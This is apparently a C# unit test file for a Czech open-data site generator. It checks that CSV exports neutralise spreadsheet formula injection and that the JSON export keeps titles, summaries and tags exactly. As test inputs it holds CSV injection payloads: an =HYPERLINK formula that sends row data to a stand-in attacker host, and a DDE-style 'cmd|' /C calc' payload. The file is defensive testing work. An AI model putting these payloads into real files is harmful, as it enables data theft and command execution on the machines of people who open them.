using System.Text.Json.Nodes;
using CsvHelper;
using DobraPraxe.Generator.OpenData;
using DobraPraxe.Generator.Tests.OpenData;
using DobraPraxe.Generator.Tests.Support;

namespace DobraPraxe.Generator.Tests.Security;

/// <summary>
/// Officials open data/praxe.csv in Excel or LibreOffice, which evaluate a cell that starts like a formula
/// (=HYPERLINK can send the row's data to any address). Hostile titles, summaries and tags are read back with
/// CsvHelper: no cell starts like a formula, list items split back exactly, and the JSON keeps the exact text.
/// </summary>
public class CsvInjectionTests
{
    private const string Hyperlink = "=HYPERLINK(\"https://utocnik.example/?d=\"&B2, \"Klikněte\")";
    private const string Sum = "@SUM(1+1)*cmd|' /C calc'!A0";
    private static readonly string[] Tags = ["-2+3", "+cmd", "a | b", "zpětné \\ lomítko", "\tz tabulátoru", "=1+1"];

    private static readonly Lazy<(string Csv, string Json)> Built = new(() =>
    {
        using var tree = new ContentTree();
        tree.Write("content/site.yml", File.ReadAllText(Path.Combine(TestPaths.Fixture("basic"), "content/site.yml"))
            + "open_data:\n  publisher: Testovací vydavatel\n  contact: { name: Kancelář, email: info@example.org }\n");
        tree.Write("content/practices/vzorce.md", $"""
            ---
            title: '{Hyperlink.Replace("'", "''")}'
            summary: "{Sum.Replace("\"", "\\\"")}"
            member: znojmo
            themes: [zdravi]
            year: 2015
            date: 2021-02-17
            tags: [{string.Join(", ", Tags.Select(t => "\"" + t.Replace("\\", "\\\\").Replace("\t", "\\t") + "\""))}]
            ---

            Text.
            """);
        var result = Builds.Generate(tree.Root);
        Assert.True(result.Succeeded, Builds.Errors(result));
        return (Builds.Page(result, "data/praxe.csv"), Builds.Page(result, "data/praxe.json"));
    });

    private static Dictionary<string, string> Row() => OpenDataTests.Csv(Built.Value.Csv).Single(r => r["slug"] == "vzorce");

    [Fact]
    public void no_cell_of_the_csv_starts_like_a_spreadsheet_formula()
    {
        using var reader = CsvReader.FromText(Built.Value.Csv, new CsvReaderOptions { Separator = ',', HasHeader = false });
        var cells = 0;
        while (reader.Read())
            for (var i = 0; i < reader.FieldCount; i++, cells++)
            {
                var cell = reader.GetString(i);
                Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0]), $"cell '{cell}' would be evaluated");
            }
        Assert.True(cells > 50, $"{cells} cells");
        Assert.Equal("'" + Hyperlink, Row()["title"]);
        Assert.Equal("'" + Sum, Row()["summary"]);
    }

    [Fact]
    public void list_items_split_at_the_separator_give_back_each_item_neutralised()
    {
        var items = Row()["tags"].Split(CsvTableWriter.ListSeparator)
            .Select(item => item.Replace("\\|", "|").Replace("\\\\", "\\")).ToArray();
        var tags = Record()["tags"]!.AsArray().Select(t => (string)t!).ToArray();
        Assert.Equal(Tags.Length, tags.Length);
        Assert.Contains("a | b", tags);
        Assert.Equal(tags.Select(CsvTableWriter.Neutralised), items);
    }

    private static JsonNode Record() => JsonNode.Parse(Built.Value.Json)!.AsArray().Single(r => (string?)r!["slug"] == "vzorce")!;

    [Fact]
    public void the_json_carries_the_exact_text()
    {
        var record = Record();
        Assert.Equal(Hyperlink, (string?)record["title"]);
        Assert.Equal(Sum, (string?)record["summary"]);
    }
}
